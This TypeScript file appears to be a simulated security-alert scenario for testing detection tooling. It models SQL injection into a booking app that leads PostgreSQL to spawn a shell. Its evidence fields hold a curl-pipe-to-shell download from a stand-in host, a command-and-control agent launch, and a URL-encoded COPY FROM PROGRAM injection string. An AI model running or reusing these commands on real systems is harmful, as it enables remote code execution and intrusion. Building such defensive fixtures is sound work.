import type { Story } from "./story.ts";

/** A web form passes what it is given on to the database, and the database starts programs. */
export const SQL_SHELL: Story = {
  name: "Execution incident on a database server reached from the web",
  alerts: [
    {
      title: "Suspicious process started by a database server",
      description: "The database started a shell; the query came from the booking system.",
      severity: "High",
      category: "Execution",
      source: "WindowsDefenderAtp",
      at: 0,
      mitre: ["T1190", "T1059.004", "T1505.001"],
      devices: [
        { name: "ehr-db01", roles: ["PrimaryDevice", "Destination"] },
        { name: "booking-rhel01", roles: ["Source"] },
      ],
      evidence: [
        {
          kind: "process",
          pid: 40_120,
          parent: 1180,
          parentImage: "/usr/lib/postgresql/16/bin/postgres",
          start: 0,
          image: "/usr/bin/dash",
          account: "postgres",
          verdict: "malicious",
          remediation: "active",
          line: 'sh -c "curl -s http://198.51.100.87/p | sh"',
        },
        {
          kind: "process",
          pid: 40_166,
          parent: 40_120,
          start: 0.1,
          image: "/tmp/.pg/agent",
          account: "postgres",
          line: "./agent -c 198.51.100.87:8443",
          verdict: "malicious",
          remediation: "active",
        },
        {
          kind: "file",
          path: "/tmp/.pg/agent",
          size: 1_744_896,
          verdict: "malicious",
          remediation: "active",
        },
        { kind: "ip", address: "198.51.100.87", country: "RU", verdict: "malicious" },
        { kind: "user", account: "postgres", domain: "ehr-db01" },
      ],
    },
    {
      title: "Possible SQL injection",
      description: "Requests to the booking system held parts of queries.",
      severity: "Medium",
      category: "InitialAccess",
      source: "WindowsDefenderAtp",
      at: -12,
      mitre: ["T1190"],
      devices: [{ name: "booking-rhel01", roles: ["PrimaryDevice"] }],
      evidence: [
        { kind: "url", url: "https://booking.contoso.example/slots?ward=3%27%3BCOPY%20cmd%20FROM%20PROGRAM" },
        { kind: "ip", address: "198.51.100.87", country: "RU", verdict: "malicious" },
      ],
    },
  ],
};
